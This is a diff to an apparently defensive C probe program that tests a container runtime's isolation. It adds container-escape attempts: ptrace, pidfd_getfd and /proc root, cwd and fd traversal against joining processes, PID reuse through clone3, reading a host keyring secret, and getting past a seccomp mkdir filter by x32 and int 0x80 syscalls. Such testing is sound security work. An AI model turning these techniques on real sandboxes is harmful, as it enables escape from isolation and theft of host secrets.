@@ -455,6 +455,161 @@ static int privileges(void) {
   return 0;
 }
 
+/* ---- processes that join ----------------------------------------------------------------------------------------- */
+
+/* Whether a process is still the runtime's own program, and not the command that it becomes. */
+static int is_runtime(int pid) {
+  char path[64], target[256];
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  ssize_t n = readlink(path, target, sizeof target - 1);
+  target[n > 0 ? n : 0] = 0;
+  return strstr(target, "memfd:") != NULL;
+}
+
+/* For who may trace it: whether anything that it has leads to a file of the host. */
+static void follow(int pid, const char *host) {
+  static const char *const ways[] = {"root", "cwd"};
+  char path[512];
+  for (int i = 0; i < 2 + 32; i++) {
+    const char *up = "/../../../../../../../../../..";
+    if (i < 2) snprintf(path, sizeof path, "/proc/%d/%s%s%s", pid, ways[i], i ? up : "", host);
+    else snprintf(path, sizeof path, "/proc/%d/fd/%d%s%s", pid, i - 2, up, host);
+    if (access(path, F_OK) == 0) won("the host by", path);
+  }
+}
+
+/* Tries everything on a process; 0 where it is the runtime no more. */
+static int grab(int pid, const char *host) {
+  static const char *const files[] = {"mem", "environ", "root", "cwd", "exe", "maps"};
+  char path[64], comm[32] = "";
+  snprintf(path, sizeof path, "/proc/%d/comm", pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return 0;
+  ssize_t n = read(fd, comm, sizeof comm - 1);
+  close(fd);
+  static int seen;
+  if (n <= 0 || strncmp(comm, "runts-init", 10) != 0) return 0;
+  if (seen != pid) printf("control saw\n"), fflush(stdout), seen = pid;
+  if (host != NULL) {
+    follow(pid, host);
+    return 1;
+  }
+  if (is_runtime(pid)) won("readlink", "exe of a process that joins");
+  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd >= 0 && is_runtime(pid)) won("open of a process that joins", files[i]);
+    if (fd >= 0) close(fd);
+  }
+  int process = (int)syscall(434, pid, 0);
+  for (int theirs = 0; theirs < 16 && process >= 0; theirs++) {
+    fd = (int)syscall(438, process, theirs, 0);
+    if (fd >= 0 && is_runtime(pid)) won("pidfd_getfd", "of a process that joins");
+    if (fd >= 0) close(fd);
+  }
+  if (process >= 0) close(process);
+  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+    if (is_runtime(pid)) won("ptrace", "of a process that joins");
+    ptrace(PTRACE_INTERRUPT, pid, 0, 0); /* one that runs cannot be let go of, and its parent would wait for us */
+    waitpid(pid, NULL, __WALL);
+    ptrace(PTRACE_DETACH, pid, 0, 0);
+  }
+  return 1;
+}
+
+/* Tries what it can on every process that appears, until there is a file. */
+static int watch(const char *until, const char *host) {
+  int last = getpid();
+  printf("control watching\n");
+  fflush(stdout);
+  while (access(until, F_OK) < 0) {
+    for (int pid = last + 1; pid < last + 256; pid++) {
+      if (kill(pid, 0) < 0 && errno == ESRCH) continue;
+      while (grab(pid, host)) continue;
+      last = pid;
+    }
+  }
+  return 0;
+}
+
+/* On the host, as root: runs a command under a number that has been another process's. */
+static int as_pid(char **argv) {
+  pid_t number = atoi(argv[0]);
+  struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&number, .set_tid_size = 1};
+  for (int i = 0; i < 2000; i++) {
+    long pid = syscall(SYS_clone3, &args, sizeof args);
+    if (pid == 0) {
+      execv(argv[1], argv + 1);
+      _exit(127);
+    }
+    if (pid > 0) {
+      printf("ready\n");
+      fflush(stdout);
+      char byte;
+      while (read(0, &byte, 1) > 0) continue;
+      kill((pid_t)pid, SIGKILL);
+      waitpid((pid_t)pid, NULL, 0);
+      return 0;
+    }
+    usleep(5000);
+  }
+  return 1;
+}
+
+/* ---- keys -------------------------------------------------------------------------------------------------------- */
+
+/* On the host: runs argv with a session keyring that holds a secret; ATTACK_KEY is the number of that key. */
+static int with_key(char **argv) {
+  syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL);
+  long key = syscall(SYS_add_key, "user", "runts-attack", "secret", 6, -3 /* KEY_SPEC_SESSION_KEYRING */);
+  if (key < 0) return 3;
+  char number[32];
+  snprintf(number, sizeof number, "%ld", key);
+  setenv("ATTACK_KEY", number, 1);
+  execvp(argv[0], argv);
+  return 127;
+}
+
+static int keys(const char *number) {
+  char secret[64];
+  printf("control keys\n");
+  if (syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(number), secret, sizeof secret) > 0) won("read", "key");
+  if (syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", "runts-attack", 0) > 0) won("search", "key");
+  if (syscall(SYS_request_key, "user", "runts-attack", NULL, 0) > 0) won("request", "key");
+  return 0;
+}
+
+/* ---- doors ------------------------------------------------------------------------------------------------------- */
+
+/* mkdir by every door to the kernel, where a filter denies it at the front door. */
+static int doors(void) {
+  static const struct call makers[] = {
+      {"mkdir", 83, 39, (unsigned long)"/tmp/attack-a", 0755, 0, 0, 0},
+      {"mkdirat", 258, 296, -100ul, (unsigned long)"/tmp/attack-b", 0755, 0, 0},
+  };
+  for (size_t i = 0; i < sizeof makers / sizeof *makers; i++) {
+    if (by_syscall(&makers[i]) == -EPERM) printf("control denied\n");
+    fflush(stdout);
+    pid_t child = fork();
+    if (child == 0) {
+      by_x32(&makers[i]);
+      _exit(0);
+    }
+    waitpid(child, NULL, 0);
+#if defined(__x86_64__)
+    child = fork();
+    if (child == 0) {
+      by_int80(&makers[i]);
+      _exit(0);
+    }
+    waitpid(child, NULL, 0);
+#endif
+  }
+  if (access("/tmp/attack-a", F_OK) == 0) won("mkdir", "");
+  if (access("/tmp/attack-b", F_OK) == 0) won("mkdirat", "");
+  return 0;
+}
+
 int main(int argc, char **argv) {
   const char *what = argc > 1 ? argv[1] : "";
   if (strcmp(what, "syscalls") == 0) return syscalls();
@@ -471,6 +626,11 @@ int main(int argc, char **argv) {
   if (strcmp(what, "listen") == 0 && argc > 2) return listen_(argv[2]);
   if (strcmp(what, "reach") == 0 && argc > 2) return reach(argv[2]);
   if (strcmp(what, "privileges") == 0) return privileges();
+  if (strcmp(what, "watch") == 0 && argc > 2) return watch(argv[2], argv[3]);
+  if (strcmp(what, "as-pid") == 0 && argc > 3) return as_pid(argv + 2);
+  if (strcmp(what, "with-key") == 0 && argc > 2) return with_key(argv + 2);
+  if (strcmp(what, "keys") == 0 && argc > 2) return keys(argv[2]);
+  if (strcmp(what, "doors") == 0) return doors();
   fprintf(stderr, "no such attack: %s\n", what);
   return 2;
 }
